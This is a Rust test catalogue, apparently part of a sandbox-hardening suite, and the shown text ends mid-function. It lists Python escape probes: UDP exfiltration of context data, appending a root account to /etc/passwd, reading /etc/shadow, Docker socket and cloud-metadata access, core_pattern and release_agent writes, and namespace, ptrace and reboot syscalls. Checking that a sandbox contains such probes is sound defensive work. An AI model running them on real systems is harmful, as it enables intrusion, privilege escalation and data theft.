//! The attack catalogue: name, category, Python cell, verdict function.
//!
//! Cells use the prelude's helpers (`_sec_sys`, `_sec_child`, `_sec_posix`,
//! `_sec_report`, `_sec_try`). Syscall numbers are x86_64.

use std::time::Duration;

use rlm_runtime::ExecStatus;

use crate::model::{
    describe, judge_markers, markers, markers_info_runc_only, raises, short, Attack, Category,
    Judge, Verdict,
};

const OS_ERRORS: &[&str] = &[
    "OSError",
    "PermissionError",
    "ConnectionRefusedError",
    "ConnectionResetError",
    "ConnectionAbortedError",
    "TimeoutError",
    "FileNotFoundError",
    "BlockingIOError",
];

/// Every attack, in run order (the shared session runs them in this order;
/// the four seed checks come first, before any attack touches the session).
pub(crate) fn catalogue(marker: &str) -> Vec<Attack> {
    let mut v = seed();
    v.extend(network());
    v.extend(filesystem());
    v.extend(device());
    v.extend(privilege());
    v.extend(information());
    v.extend(exfiltration());
    v.extend(resource(marker));
    v
}

/// The four checks the seed documents name.
fn seed() -> Vec<Attack> {
    use Category::*;
    vec![
        Attack::new(
            "seed.import-subprocess",
            Privilege,
            "import subprocess",
            raises(&["ImportError", "ModuleNotFoundError"]),
        ),
        Attack::new(
            "seed.socket-connect",
            Network,
            "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.settimeout(5)\ns.connect(('1.1.1.1', 80))",
            raises(OS_ERRORS),
        ),
        Attack::new(
            "seed.open-etc-shadow",
            Filesystem,
            "open('/etc/shadow').read()",
            raises(&["PermissionError"]),
        ),
        Attack::new("seed.memory-1gb-string", Resource, "x = 'a' * 10**9\nlen(x)", oom_137())
            .fresh()
            .timeout(Duration::from_secs(30)),
    ]
}

/// The cell must end the session out of memory with exit status 137.
fn oom_137() -> Judge {
    Box::new(|_env, run| match &run.outcome {
        Err(e) => Verdict::Error(format!("exec failed: {}", short(e, 160))),
        Ok(o) if o.status == ExecStatus::OutOfMemory && o.exit_code() == 137 => {
            Verdict::Blocked(format!(
                "OutOfMemory, exit 137 after {:.1}s",
                o.duration.as_secs_f64()
            ))
        }
        Ok(o) if o.status == ExecStatus::Ok => {
            Verdict::Escaped(format!("allocated past the memory limit: {}", describe(o)))
        }
        Ok(o) => Verdict::Error(format!("expected OutOfMemory (137), got {}", describe(o))),
    })
}

fn network() -> Vec<Attack> {
    use Category::Network as N;
    let connect = |host: &str, port: u16, family: &str| {
        format!(
            "import socket\ns = socket.socket(socket.{family}, socket.SOCK_STREAM)\ns.settimeout(3)\ns.connect(({host:?}, {port}))"
        )
    };
    vec![
        Attack::new(
            "net.tcp-443",
            N,
            connect("8.8.8.8", 443, "AF_INET"),
            raises(OS_ERRORS),
        ),
        Attack::new(
            "net.udp-dns-query",
            N,
            r#"import socket
q = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
try:
    s.sendto(q, ('8.8.8.8', 53))
    data = s.recvfrom(512)
    _sec_report(True, 'DNS answer received: %r' % (data[0][:40],))
except OSError as e:
    _sec_report(False, '%s: %s' % (type(e).__name__, e))"#,
            markers(),
        ),
        Attack::new(
            "net.dns-resolve",
            N,
            "import socket\nsocket.getaddrinfo('example.com', 443)",
            raises(&["gaierror", "OSError", "TimeoutError"]),
        ),
        Attack::new(
            "net.ipv6-connect",
            N,
            connect("2606:4700:4700::1111", 443, "AF_INET6"),
            raises(OS_ERRORS),
        ),
        Attack::new(
            "net.raw-socket",
            N,
            "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
            raises(&["PermissionError", "OSError"]),
        ),
        Attack::new(
            "net.packet-socket",
            N,
            "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)",
            raises(&["PermissionError", "OSError"]),
        ),
        Attack::new(
            "net.docker-gateway-api",
            N,
            connect("172.17.0.1", 2375, "AF_INET"),
            raises(OS_ERRORS),
        ),
        Attack::new(
            "net.docker-gateway-ssh",
            N,
            connect("172.17.0.1", 22, "AF_INET"),
            raises(OS_ERRORS),
        ),
        Attack::new(
            "net.cloud-metadata",
            N,
            connect("169.254.169.254", 80, "AF_INET"),
            raises(OS_ERRORS),
        ),
        Attack::new(
            "net.host-loopback-docker-tcp",
            N,
            connect("127.0.0.1", 2375, "AF_INET"),
            raises(OS_ERRORS),
        ),
        Attack::new(
            "net.docker-socket",
            N,
            r#"import socket
paths = ['/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock',
         '/var/run/docker/containerd/containerd.sock', '/run/runsc', '/var/run/docker']
for p in paths:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(p)
        s.sendall(b'GET /containers/json HTTP/1.0\r\n\r\n')
        _sec_report(True, 'connected to %s: %r' % (p, s.recv(80)))
    except OSError as e:
        _sec_report(False, '%s: %s' % (p, type(e).__name__))
    finally:
        s.close()"#,
            markers(),
        ),
        Attack::new(
            "net.interfaces",
            N,
            r#"import socket
names = [n for _, n in socket.if_nameindex()]
_sec_report(any(n != 'lo' for n in names), 'interfaces: %s' % names)"#,
            markers(),
        ),
        Attack::new(
            "net.host-abstract-sockets",
            N,
            r#"import socket
found = []
try:
    for line in open('/proc/net/unix').read().splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8 and parts[7].startswith('@'):
            found.append(parts[7])
except OSError as e:
    found = []
hits = []
for name in found:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect('\0' + name[1:])
        hits.append(name)
    except OSError:
        pass
    finally:
        s.close()
_sec_report(bool(hits), 'abstract sockets visible: %d, connectable: %s' % (len(found), hits[:5]))"#,
            markers(),
        ),
        Attack::new(
            "net.exfil-context-over-udp",
            N,
            r#"import socket
secret = context[0:64].encode()
sent = []
for fam, addr in ((socket.AF_INET, ('10.0.0.1', 53)), (socket.AF_INET, ('172.17.0.1', 53)),
                  (socket.AF_INET, ('255.255.255.255', 9)), (socket.AF_INET6, ('ff02::1', 9))):
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        if addr[0] == '255.255.255.255':
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(secret, addr)
        sent.append(addr[0])
    except OSError as e:
        pass
    finally:
        s.close()
_sec_report(bool(sent), 'datagrams accepted for %s' % sent if sent else 'every sendto failed (no route)')"#,
            markers(),
        ),
    ]
}

fn filesystem() -> Vec<Attack> {
    use Category::Filesystem as F;
    let refused = || raises(&["PermissionError", "OSError", "FileNotFoundError"]);
    vec![
        Attack::new("fs.write-etc-passwd", F, "open('/etc/passwd', 'a').write('x::0:0::/:/bin/sh\\n')", refused()),
        Attack::new("fs.create-in-root", F, "open('/pwned', 'w').write('x')", refused()),
        Attack::new("fs.create-in-usr", F, "open('/usr/local/bin/pwned', 'w').write('x')", refused()),
        Attack::new("fs.trojan-stdlib", F, "import os\nopen(os.__file__, 'a').write('\\n# pwned\\n')", refused()),
        Attack::new("fs.write-context", F, "open('/rlm/context', 'r+b').write(b'pwned')", refused()),
        Attack::new("fs.chmod-context", F, "import os\nos.chmod('/rlm/context', 0o666)", refused()),
        Attack::new("fs.rename-context", F, "import os\nos.rename('/rlm/context', '/tmp/ctx')", refused()),
        Attack::new(
            "fs.context-sibling",
            F,
            r#"import os
seen = sorted(os.listdir('/rlm'))
tries = ['/rlm/context/../host-secret.txt', '/rlm/host-secret.txt', '/host-secret.txt']
got = []
for p in tries:
    k, v = _sec_try(lambda: open(p).read())
    if k == 'ok':
        got.append(p)
_sec_report(bool(got) or seen != ['context'], '/rlm holds %s; sibling opened: %s' % (seen, got))"#,
            Box::new(|env, run| {
                let v = judge_markers(run, false);
                match &run.outcome {
                    Ok(o) if o.stdout.contains(&env.host_secret) => {
                        Verdict::Escaped("the host file next to the context was read".into())
                    }
                    _ => v,
                }
            }),
        ),
        Attack::new(
            "fs.symlink-to-shadow",
            F,
            "import os\ntry: os.unlink('/tmp/s')\nexcept OSError: pass\nos.symlink('/etc/shadow', '/tmp/s')\nopen('/tmp/s').read()",
            raises(&["PermissionError"]),
        ),
        Attack::new(
            "fs.symlink-write-context",
            F,
            "import os\ntry: os.unlink('/tmp/c')\nexcept OSError: pass\nos.symlink('/rlm/context', '/tmp/c')\nopen('/tmp/c', 'w').write('pwned')",
            refused(),
        ),
        Attack::new(
            "fs.hardlink-shadow",
            F,
            "import os\nos.link('/etc/shadow', '/tmp/shadow-link')",
            refused(),
        ),
        Attack::new(
            "fs.proc-root-shadow",
            F,
            "open('/proc/1/root/etc/shadow').read()",
            raises(&["PermissionError"]),
        ),
        Attack::new(
            "fs.proc-kcore",
            F,
            r#"k, v = _sec_try(lambda: open('/proc/kcore', 'rb').read(4096))
_sec_report(k == 'ok' and len(v) > 0, 'read /proc/kcore: %s %s' % (k, len(v) if k == 'ok' else v))"#,
            markers(),
        ),
        Attack::new(
            "fs.sys-firmware",
            F,
            r#"import os
found = []
for root, dirs, files in os.walk('/sys/firmware'):
    for f in files:
        p = os.path.join(root, f)
        k, v = _sec_try(lambda: open(p, 'rb').read(64))
        if k == 'ok' and v:
            found.append(p)
_sec_report(bool(found), 'readable firmware files: %d %s' % (len(found), found[:3]))"#,
            markers(),
        ),
        Attack::new("fs.proc-sys-write", F, "open('/proc/sys/kernel/hostname', 'w').write('pwned')", refused()),
        Attack::new("fs.core-pattern", F, "open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/x')", refused()),
        Attack::new("fs.sysrq-trigger", F, "open('/proc/sysrq-trigger', 'w').write('b')", refused()),
        Attack::new("fs.uevent-helper", F, "open('/sys/kernel/uevent_helper', 'w').write('/tmp/x')", refused()),
        Attack::new(
            "fs.cgroup-release-agent",
            F,
            r#"import os
tried = []
for p in ['/sys/fs/cgroup/release_agent', '/sys/fs/cgroup/memory/release_agent',
          '/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/memory.max']:
    def w():
        with open(p, 'w') as f:
            f.write('/tmp/x' if 'release' in p else 'max')
    k, v = _sec_try(w)
    tried.append((p, k))
ok = [p for p, k in tried if k == 'ok']
_sec_report(bool(ok), 'writes: %s' % tried)"#,
            markers(),
        ),
        Attack::new(
            "fs.tmp-noexec",
            F,
            r#"import os, mmap
path = '/tmp/x.sh'
with open(path, 'w') as f:
    f.write('#!/bin/sh\necho pwned\n')
os.chmod(path, 0o755)
p = _sec_posix()
k1, v1 = _sec_try(lambda: os.waitpid(p.posix_spawn(path, [path], {}), 0))
fd = os.open(path, os.O_RDONLY)
k2, v2 = _sec_try(lambda: mmap.mmap(fd, 0, prot=mmap.PROT_READ | mmap.PROT_EXEC))
os.close(fd)
os.unlink(path)
_sec_report(k1 == 'ok', 'exec from /tmp: %s %s; PROT_EXEC mmap: %s' % (k1, v1, k2))"#,
            markers(),
        ),
        Attack::new(
            "fs.writable-host-mounts",
            F,
            r#"import os
bad = []
rows = []
for line in open('/proc/self/mountinfo').read().splitlines():
    pre, _, post = line.partition(' - ')
    f = pre.split()
    mnt, opts = f[4], f[5]
    fstype = post.split()[0] if post else '?'
    if fstype in ('proc', 'sysfs', 'tmpfs', 'devpts', 'mqueue', 'cgroup', 'cgroup2', 'devtmpfs'):
        continue
    rows.append((mnt, opts.split(',')[0], fstype))
    if os.path.isdir(mnt):
        probe = os.path.join(mnt, '.rlm-probe')
        def w():
            with open(probe, 'w') as fh:
                fh.write('x')
            os.unlink(probe)
    else:
        def w():
            open(mnt, 'a').close()
    k, _ = _sec_try(w)
    if k == 'ok':
        bad.append(mnt)
_sec_report(bool(bad), 'host-backed mounts %s; writable: %s' % (rows, bad))"#,
            markers(),
        ),
    ]
}

fn device() -> Vec<Attack> {
    use Category::Device as D;
    vec![
        Attack::new(
            "dev.mem",
            D,
            "open('/dev/mem', 'rb').read(16)",
            raises(&["FileNotFoundError", "PermissionError", "OSError"]),
        ),
        Attack::new(
            "dev.disks",
            D,
            r#"import os
got = []
for p in ['/dev/sda', '/dev/vda', '/dev/xvda', '/dev/nvme0n1', '/dev/dm-0', '/dev/loop0', '/dev/port', '/dev/kmem']:
    k, v = _sec_try(lambda: open(p, 'rb').read(512))
    got.append((p, k))
_sec_report(any(k == 'ok' for _, k in got), 'raw disks: %s' % got)"#,
            markers(),
        ),
        Attack::new(
            "dev.block-devices",
            D,
            r#"import os, stat
blk = []
for root, dirs, files in os.walk('/dev'):
    for f in files + dirs:
        p = os.path.join(root, f)
        try:
            if stat.S_ISBLK(os.lstat(p).st_mode):
                blk.append(p)
        except OSError:
            pass
_sec_report(bool(blk), 'block devices in /dev: %s; /dev holds %s' % (blk, sorted(os.listdir('/dev'))))"#,
            markers(),
        ),
        mknod("dev.mknod-block", "/tmp/sda", "S_IFBLK", 8, 0),
        mknod("dev.mknod-mem", "/tmp/mem", "S_IFCHR", 1, 1),
        Attack::new(
            "dev.kmsg",
            D,
            "open('/dev/kmsg', 'rb').read(256)",
            raises(&["FileNotFoundError", "PermissionError", "OSError"]),
        ),
        Attack::new(
            "dev.tun-interface",
            D,
            r#"import os, fcntl, struct
k, fd = _sec_try(lambda: os.open('/dev/net/tun', os.O_RDWR))
if k != 'ok':
    _sec_report(False, 'open /dev/net/tun: %s' % k)
else:
    ifr = struct.pack('16sH', b'rlm0', 0x0001 | 0x1000)
    k2, v2 = _sec_try(lambda: fcntl.ioctl(fd, 0x400454ca, ifr))
    os.close(fd)
    _sec_report(k2 == 'ok', 'TUNSETIFF: %s %s' % (k2, v2 if k2 != 'ok' else 'created rlm0'))"#,
            markers(),
        ),
    ]
}

/// Create a device node and read through it: creating it is harmless if it
/// cannot be opened (gVisor lets mknod succeed on its own tmpfs, but /tmp
/// is nodev and its devices are not the host's).
fn mknod(name: &'static str, path: &str, kind: &str, major: u32, minor: u32) -> Attack {
    let code = format!(
        r#"import os, stat
try:
    os.unlink({path:?})
except OSError:
    pass
k, v = _sec_try(lambda: os.mknod({path:?}, stat.{kind} | 0o666, os.makedev({major}, {minor})))
if k != 'ok':
    _sec_report(False, 'mknod: %s %s' % (k, v))
else:
    k2, v2 = _sec_try(lambda: open({path:?}, 'rb').read(512))
    os.unlink({path:?})
    if k2 == 'ok' and v2:
        _sec_report(True, 'read %d bytes through a device node' % len(v2))
    else:
        _sec_report(False, 'contained: mknod allowed inside gVisor but the node does not open (nodev): %s %s' % (k2, v2))"#
    );
    Attack::new(name, Category::Device, code, markers())
}

/// A syscall attack: `call` is a Python expression returning `_sec_sys(...)`;
/// run in a forked child when `child` (it could change the process).
fn syscall(name: &'static str, what: &str, call: &str, child: bool) -> Attack {
    let code = if child {
        format!("r, e = _sec_child(lambda: {call})\n_sec_report(r >= 0, '{what}: ' + (e if r < 0 else 'succeeded'))")
    } else {
        format!("r, e = {call}\n_sec_report(r >= 0, '{what}: ' + (e if r < 0 else 'succeeded'))")
    };
    Attack::new(name, Category::Privilege, code, markers())
}

fn privilege() -> Vec<Attack> {
    use Category::Privilege as P;
    vec![
        Attack::new(
            "priv.import-ctypes",
            P,
            "import ctypes",
            raises(&["ImportError", "ModuleNotFoundError"]),
        ),
        Attack::new(
            "priv.os-spawners-removed",
            P,
            r#"import os
left = [f for f in ('system', 'popen', 'fork', 'execv', 'posix_spawn', 'spawnv') if hasattr(os, f)]
_sec_report(bool(left), 'os spawners present: %s' % left)"#,
            markers(),
        ),
        Attack::new(
            "priv.uid",
            P,
            r#"import os
ids = (os.getuid(), os.geteuid(), os.getgid(), os.getegid(), os.getgroups())
_sec_report(0 in ids[:4] or 0 in ids[4], 'uid/euid/gid/egid/groups = %s' % (ids,))"#,
            markers(),
        ),
        Attack::new(
            "priv.capabilities",
            P,
            r#"caps = {}
for line in open('/proc/self/status'):
    if line.startswith('Cap'):
        k, v = line.split(':')
        caps[k] = int(v.strip(), 16)
_sec_report(any(caps.values()) or not caps, 'capability sets: %s' % {k: hex(v) for k, v in caps.items()})"#,
            markers(),
        ),
        Attack::new(
            "priv.no-new-privs",
            P,
            r#"r, e = _sec_sys(157, 39, 0, 0, 0, 0)
_sec_report(r != 1, 'PR_GET_NO_NEW_PRIVS = %s' % (r if r >= 0 else e))"#,
            markers(),
        ),
        Attack::new(
            "priv.setuid-binaries",
            P,
            r#"import os, stat
suid = []
for d in ['/bin', '/sbin', '/usr/bin', '/usr/sbin', '/usr/lib', '/usr/libexec']:
    for root, dirs, files in os.walk(d):
        for f in files:
            p = os.path.join(root, f)
            try:
                m = os.lstat(p).st_mode
            except OSError:
                continue
            if stat.S_ISREG(m) and m & (stat.S_ISUID | stat.S_ISGID):
                suid.append(p)
p = _sec_posix()
rfd, wfd = os.pipe()
results = []
for b in suid[:6]:
    # Run each set-id binary with a harmless argument and read the euid it
    # got from /proc while it runs.
    try:
        pid = p.posix_spawn(b, [b, '--help'], {}, file_actions=[(os.POSIX_SPAWN_DUP2, wfd, 1), (os.POSIX_SPAWN_DUP2, wfd, 2)])
    except OSError as e:
        results.append((b, 'spawn:' + type(e).__name__))
        continue
    euid = None
    try:
        for line in open('/proc/%d/status' % pid):
            if line.startswith('Uid:'):
                euid = int(line.split()[2])
    except OSError:
        pass
    os.waitpid(pid, 0)
    results.append((b, euid))
os.close(rfd); os.close(wfd)
root = [b for b, e in results if e == 0]
_sec_report(bool(root), 'set-id binaries %d; spawned euid: %s' % (len(suid), results))"#,
            markers(),
        ),
        Attack::new("priv.setuid-0", P, "import os\nos.setuid(0)", raises(&["PermissionError"])),
        Attack::new("priv.setgroups", P, "import os\nos.setgroups([0])", raises(&["PermissionError"])),
        Attack::new("priv.chroot", P, "import os\nos.chroot('/tmp')", raises(&["PermissionError", "OSError"])),
        syscall("priv.mount-tmpfs", "mount tmpfs on /tmp", "_sec_sys(165, b'none', b'/tmp', b'tmpfs', 0, 0)", true),
        syscall("priv.remount-root-rw", "remount / read-write", "_sec_sys(165, b'none', b'/', 0, 0x20, 0)", true),
        Attack::new(
            "priv.unshare-user",
            P,
            r#"def attempt():
    r, e = _sec_sys(272, 0x10000000)
    if r < 0:
        return {'unshare': e}
    # Inside a new user namespace (gVisor implements its own): see what the
    # namespace's "root" can reach outside it.
    out = {'unshare': 'ok'}
    out['shadow'] = _sec_try(lambda: open('/etc/shadow').read(8))[0]
    out['write_root'] = _sec_try(lambda: open('/pwned', 'w').write('x'))[0]
    out['write_context'] = _sec_try(lambda: open('/rlm/context', 'r+b').write(b'x'))[0]
    r2, e2 = _sec_sys(272, 0x00020000)
    out['mount_ns'] = e2
    if r2 >= 0:
        r3, e3 = _sec_sys(165, b'none', b'/', 0, 0x20, 0)
        out['remount_root_rw'] = e3
        out['write_root_after'] = _sec_try(lambda: open('/pwned', 'w').write('x'))[0]
    s = __import__('socket')
    out['raw_socket'] = _sec_try(lambda: s.socket(s.AF_INET, s.SOCK_RAW, 1).close())[0]
    out['connect'] = _sec_try(lambda: s.create_connection(('1.1.1.1', 80), 2).close())[0]
    return out
res = _sec_child(attempt)
if res.get('unshare') != 'ok':
    _sec_report(False, 'unshare(CLONE_NEWUSER): %s' % res.get('unshare'))
else:
    gained = [k for k in ('shadow', 'write_root', 'write_context', 'write_root_after', 'connect') if res.get(k) == 'ok']
    if gained:
        _sec_report(True, 'user namespace root reached %s: %s' % (gained, res))
    else:
        _sec_report(False, 'contained: unshare(CLONE_NEWUSER) succeeded inside gVisor (its own user namespace); outside it gained nothing: %s' % res)"#,
            markers(),
        ),
        Attack::new(
            "priv.unshare-mount-ns",
            P,
            r#"def attempt():
    r, e = _sec_sys(272, 0x00020000)
    if r < 0:
        return {'unshare': e}
    out = {'unshare': 'ok'}
    out['mount_tmpfs'] = _sec_sys(165, b'none', b'/tmp', b'tmpfs', 0, 0)[1]
    out['remount_root_rw'] = _sec_sys(165, b'none', b'/', 0, 0x20, 0)[1]
    out['write_root'] = _sec_try(lambda: open('/pwned', 'w').write('x'))[0]
    out['shadow'] = _sec_try(lambda: open('/etc/shadow').read(8))[0]
    return out
res = _sec_child(attempt)
if res.get('unshare') != 'ok':
    _sec_report(False, 'unshare(CLONE_NEWNS): %s' % res.get('unshare'))
else:
    gained = [k for k, v in res.items() if k != 'unshare' and v == 'ok']
    _sec_report(bool(gained), ('reached %s: %s' % (gained, res)) if gained else 'contained: gVisor allows a private mount namespace without CAP_SYS_ADMIN, but mounting in it is refused: %s' % res)"#,
            markers(),
        ),
        syscall("priv.unshare-net-ns", "unshare(CLONE_NEWNET)", "_sec_sys(272, 0x40000000)", true),
        Attack::new(
            "priv.setns-host",
            P,
            r#"import os
res = []
for ns in ('mnt', 'net', 'pid', 'uts', 'ipc', 'user'):
    def go(ns=ns):
        fd = os.open('/proc/1/ns/' + ns, os.O_RDONLY)
        return _sec_sys(308, fd, 0)
    k, v = _sec_try(lambda: _sec_child(go))
    res.append((ns, v[1] if k == 'ok' and isinstance(v, list) else (k, v)))
ok = [ns for ns, e in res if e == 'ok' and ns != 'user']
_sec_report(bool(ok), 'setns into /proc/1/ns/*: %s' % res)"#,
            markers(),
        ),
        Attack::new(
            "priv.ptrace",
            P,
            r#"import os
def attempt():
    ppid = os.getppid()
    # PTRACE_SEIZE: attaches without stopping the agent; the child's exit
    # detaches.
    r, e = _sec_sys(101, 0x4206, ppid, 0, 0)
    return [r, e, ppid]
r, e, ppid = _sec_child(attempt)
pids = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())
foreign = []
for p in pids:
    try:
        cmd = open('/proc/%d/cmdline' % p, 'rb').read()
    except OSError:
        continue
    if not cmd.startswith(b'python3'):
        foreign.append((p, cmd[:40]))
if foreign:
    _sec_report(True, 'processes outside the sandbox visible: %s' % foreign[:5])
elif r >= 0:
    _sec_report(False, 'ptrace seize of pid %d (the sandbox agent itself, same uid) allowed; only the sandbox processes %s are visible' % (ppid, pids), info=True)
else:
    _sec_report(False, 'PTRACE_SEIZE of the agent (pid %d): %s; visible pids %s' % (ppid, e, pids))"#,
            Box::new(|env, run| match judge_markers(run, false) {
                Verdict::Info(d) => Verdict::Info(format!(
                    "not an escape under {}: {d}",
                    env.runtime
                )),
                v => v,
            }),
        ),
        syscall("priv.bpf", "bpf(BPF_PROG_LOAD)", "_sec_sys(321, 5, 0, 0)", false),
        Attack::new(
            "priv.keyctl",
            P,
            r#"r, e = _sec_sys(248, b'user', b'rlm-probe', b'secret', 6, -3)
r2, e2 = _sec_sys(250, 0, -3, 0)
_sec_report(False, 'add_key: %s, keyctl(GET_KEYRING_ID): %s' % (e if r < 0 else 'ok (key %d)' % r, e2 if r2 < 0 else 'ok'), info=(r >= 0))
k, v = _sec_try(lambda: open('/proc/keys').read())
_sec_report(k == 'ok' and len(v.strip()) > 0 and r < 0, '/proc/keys: %s' % (k if k != 'ok' else '%d bytes' % len(v)))"#,
            Box::new(|env, run| match judge_markers(run, false) {
                Verdict::Info(d) if env.gvisor => Verdict::Info(format!(
                    "gVisor keeps its own keyrings (not the host's): {d}"
                )),
                Verdict::Info(d) => Verdict::Escaped(format!("host keyring writable under runc: {d}")),
                v => v,
            }),
        ),
        syscall("priv.finit-module", "finit_module", "_sec_sys(313, 0, b'', 0)", false),
        syscall("priv.open-by-handle-at", "open_by_handle_at (shocker)", "_sec_sys(304, 3, b'\\x08\\x00\\x00\\x00\\x01\\x00\\x00\\x00\\x02\\x00\\x00\\x00\\x00\\x00\\x00\\x00', 0)", false),
        syscall("priv.sethostname", "sethostname", "_sec_sys(170, b'pwned', 5)", false),
        syscall("priv.clock-settime", "clock_settime(REALTIME)", "_sec_sys(227, 0, b'\\x00' * 16)", false),
        syscall("priv.reboot", "reboot(RESTART)", "_sec_sys(169, 0xfee1dead, 672274793, 0x01234567, 0)", false),
        syscall("priv.iopl", "iopl(3)", "_sec_sys(172, 3)", false),
        syscall("priv.kexec-load", "kexec_load", "_sec_sys(246, 0, 0, 0, 0)", false),
        syscall("priv.swapon", "swapon", "_sec_sys(167, b'/tmp/swap', 0)", false),
        syscall("priv.perf-event-open", "perf_event_open", "_sec_sys(298, b'\\x00' * 128, 0, -1, -1, 0)", false),
        Attack::new(
            "priv.io-uring",
            P,
            r#"r, e = _sec_sys(425, 1, 0)
if e in ('ENOSYS', 'EPERM'):
    _sec_report(False, 'io_uring_setup: %s' % e)
else:
    _sec_report(False, 'io_uring_setup reachable (%s): kernel attack surface, no privilege by itself' % e, info=True)"#,
            Box::new(|env, run| match judge_markers(run, false) {
                Verdict::Info(d) if env.gvisor => Verdict::Blocked(format!(
                    "handled by gVisor's own kernel, never the host's: {d}"
                )),
                Verdict::Info(d) => Verdict::Info(format!(
                    "Docker 20.10's default seccomp allows io_uring under runc: {d}"
                )),
                v => v,
            }),
        ),
    ]
}

fn information() -> Vec<Attack> {
    use Category::Information as I;
    vec![
        Attack::new(
            "info.kernel-uname",
            I,
            "import os\nprint(os.uname().release)",
            Box::new(|env, run| kernel_judge(env, run, |o| o.trim().to_string())),
        ),
        Attack::new(
            "info.proc-version",
            I,
            "print(open('/proc/version').read())",
            Box::new(|env, run| match &run.outcome {
                Ok(o) if o.stdout.trim() == env.host_proc_version.trim() && env.gvisor => {
                    Verdict::Escaped("the host's /proc/version is visible under gVisor".into())
                }
                Ok(o) if o.stdout.contains(&env.host_kernel) && !env.gvisor => Verdict::Info(
                    "expected under runc: /proc/version is the host's (shared kernel)".into(),
                ),
                Ok(o) if o.stdout.contains(&env.host_kernel) => Verdict::Escaped(
                    "the host kernel version appears in /proc/version under gVisor".into(),
                ),
                Ok(o) if o.status == ExecStatus::Ok => {
                    Verdict::Blocked(format!("sandbox sees {:?}", short(&o.stdout, 80)))
                }
                Ok(o) => Verdict::Blocked(format!("unreadable: {}", describe(o))),
                Err(e) => Verdict::Error(short(e, 160)),
            }),
        ),
        Attack::new(
            "info.kernel-osrelease",
            I,
            "print(open('/proc/sys/kernel/osrelease').read())",
            Box::new(|env, run| kernel_judge(env, run, |o| o.trim().to_string())),
        ),
        Attack::new(
            "info.host-env-canary",
            I,
            r#"import os
out = [repr(dict(os.environ))]
for p in os.listdir('/proc'):
    if p.isdigit() or p in ('self', 'thread-self'):
        try:
            out.append(open('/proc/%s/environ' % p, 'rb').read().decode('utf-8', 'replace'))
        except OSError:
            pass
print('\n'.join(out))"#,
            Box::new(|env, run| match &run.outcome {
                Ok(o) if o.stdout.contains(&env.canary) => {
                    Verdict::Escaped("the host's environment canary is visible".into())
                }
                Ok(o) if o.status == ExecStatus::Ok => {
                    let keys = sandbox_env_keys(&o.stdout);
                    let allowed = [
                        "LANG",
                        "HOME",
                        "PYTHONDONTWRITEBYTECODE",
                        "PATH",
                        "HOSTNAME",
                    ];
                    let extra: Vec<_> = keys
                        .iter()
                        .filter(|k| {
                            // Given by hardening.rs, or set by the image itself.
                            !allowed.contains(&k.as_str()) && !env.image_env_keys.contains(k)
                        })
                        .cloned()
                        .collect();
                    if extra.is_empty() {
                        Verdict::Blocked(format!("canary absent; environment keys {keys:?}"))
                    } else {
                        Verdict::Escaped(format!("unexpected environment variables {extra:?}"))
                    }
                }
                Ok(o) => Verdict::Error(describe(o)),
                Err(e) => Verdict::Error(short(e, 160)),
            }),
        ),
        Attack::new(
            "info.hostname",
            I,
            "import socket\nprint(socket.gethostname())",
            Box::new(|env, run| match &run.outcome {
                Ok(o) if o.stdout.trim() == env.host_hostname => {
                    Verdict::Escaped("the host's hostname is visible".into())
                }
                Ok(o) if o.status == ExecStatus::Ok => {
                    Verdict::Blocked(format!("hostname {:?}", o.stdout.trim()))
                }
                Ok(o) => Verdict::Error(describe(o)),
                Err(e) => Verdict::Error(short(e, 160)),
            }),
        ),
        Attack::new(
            "info.boot-id",
            I,
            "print(open('/proc/sys/kernel/random/boot_id').read())",
            Box::new(|env, run| match &run.outcome {
                Ok(o) if !env.host_boot_id.is_empty() && o.stdout.trim() == env.host_boot_id => {
                    if env.gvisor {
                        Verdict::Escaped("the host's boot id is visible under gVisor".into())
                    } else {
                        Verdict::Info("expected under runc: boot_id is the host kernel's".into())
                    }
                }
                Ok(o) => Verdict::Blocked(format!("sandbox boot id differs: {}", describe(o))),
                Err(e) => Verdict::Error(short(e, 160)),
            }),
        ),
        Attack::new(
            "info.other-processes",
            I,
            r#"import os
pids = [p for p in os.listdir('/proc') if p.isdigit()]
cmds = []
for p in pids:
    try:
        cmds.append(open('/proc/%s/cmdline' % p, 'rb').read().split(b'\0')[0].decode())
    except OSError:
        pass
foreign = [c for c in cmds if c != 'python3']
_sec_report(bool(foreign) or len(pids) > 8, '%d processes visible: %s' % (len(pids), sorted(set(cmds))))"#,
            markers(),
        ),
        Attack::new(
            "info.other-containers",
            I,
            r#"import os
seen = []
for p in ['/var/lib/docker', '/run/containerd', '/var/run/docker', '/sys/fs/cgroup/docker',
          '/sys/fs/cgroup/system.slice', '/proc/1/root/var/lib/docker', '/host', '/rootfs']:
    if os.path.exists(p):
        k, v = _sec_try(lambda: os.listdir(p))
        if k == 'ok' and v:
            seen.append((p, len(v)))
_sec_report(bool(seen), 'host container state visible: %s' % seen if seen else 'no docker/containerd state, no host root, no sibling cgroups')"#,
            markers(),
        ),
        Attack::new(
            "info.mount-host-paths",
            I,
            r#"text = open('/proc/self/mountinfo').read()
leaks = sorted(set(w for w in text.replace(',', ' ').replace('=', ' ').split() if w.startswith('/var/lib/docker')))
if leaks:
    _sec_report(False, 'host paths in mountinfo: %s' % leaks[:2], info=True)
else:
    _sec_report(False, 'no host paths in /proc/self/mountinfo')"#,
            markers_info_runc_only(),
        ),
        Attack::new(
            "info.kallsyms",
            I,
            r#"k, v = _sec_try(lambda: open('/proc/kallsyms').read(1 << 20))
if k != 'ok':
    _sec_report(False, '/proc/kallsyms: %s' % k)
else:
    nz = [l for l in v.splitlines() if l and l.split()[0].strip('0')]
